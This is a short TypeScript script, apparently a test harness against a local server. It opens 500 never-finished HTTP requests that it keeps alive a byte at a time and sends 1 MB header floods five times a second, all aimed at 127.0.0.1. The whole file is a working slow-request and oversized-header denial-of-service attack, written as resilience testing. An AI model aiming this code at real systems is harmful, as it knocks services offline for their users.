/** `attack.ts PORT`: clients that mean no good. 500 half requests that never end, and 1 MB of headers 5 times a second. */
import { connect, type Socket } from "node:net";

const port = Number(process.argv[2]);
const SLOW = 500;
const HALF = "GET /current HTTP/1.1\r\nHost: rotisserie.test\r\nX: ";
const LARGE = `${HALF}${"a".repeat(1_000_000)}\r\n\r\n`;
const open = new Set<Socket>();

function begin(text: string): void {
  const socket = connect(port, "127.0.0.1");
  open.add(socket);
  socket.on("error", () => {});
  socket.once("close", () => open.delete(socket));
  socket.write(text);
}

setInterval(() => {
  for (const socket of open) if (socket.writable) socket.write("a");
  // The edge has let some go: they come back.
  while (open.size < SLOW) begin(HALF);
}, 1_000);
setInterval(() => begin(LARGE), 200);
